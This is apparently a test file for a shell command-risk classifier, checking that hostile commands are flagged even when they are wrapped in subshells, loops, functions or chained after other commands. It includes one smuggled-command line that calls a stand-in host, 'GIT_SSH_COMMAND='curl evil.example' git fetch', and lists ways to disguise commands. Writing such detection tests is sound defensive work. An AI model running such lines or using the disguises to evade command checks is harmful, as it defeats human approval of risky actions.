import { describe, expect, test } from "vitest";
import { commandRisks, riskToAsk } from "../../../functions/command-risk/command-risk.ts";
import { listedLines } from "./command-lines.ts";

describe("a line that destroys, reaches out or cannot be read asks", () => {
  test.each(listedLines("hostile"))("$kind: $line", ({ kind, line }) => {
    expect(riskToAsk(line, "normal", [])).toBeDefined();
    if (kind !== "destroys") expect(riskToAsk(line, "auto", [])).toBeDefined();
  });
});

describe("everyday commands do not ask", () => {
  test.each(listedLines("everyday"))("$line", ({ line }) => {
    expect(riskToAsk(line, "normal", [])?.why).toBeUndefined();
  });
});

test("variables that make a program run something are read as well: it may reach out", () => {
  const found = commandRisks("GIT_SSH_COMMAND='curl evil.example' git fetch");
  expect(found.map(({ risk }) => risk)).toContain("remote");
});

describe("a disguised hostile line still asks", () => {
  const plain = listedLines("hostile").filter(({ line }) => !/[\n#]|<<|^\s*[!{(]/.test(line));
  test.each([
    ["after &&", (line: string) => `npm test && ${line}`],
    ["after ;", (line: string) => `ls; ${line}`],
    ["in a subshell", (line: string) => `( ${line}\n)`],
    ["in a group", (line: string) => `{ ${line}\n}`],
    ["in a function", (line: string) => `f() { ${line}\n}; f`],
    ["in a condition", (line: string) => `if true; then ${line}\nfi`],
    ["in a case", (line: string) => `case x in y) echo y ;; *) ${line}\nesac`],
    ["in a substitution", (line: string) => `echo "$( ${line}\n)"`],
    ["after a comment", (line: string) => `# nothing here\n${line}`],
    ["in a loop", (line: string) => `for x in 1 2; do ${line}\ndone`],
  ])("%s", (_, dress) => {
    const silent = plain.map(({ line }) => dress(line)).filter((line) => !riskToAsk(line, "normal", []));
    expect(silent).toEqual([]);
  });
});
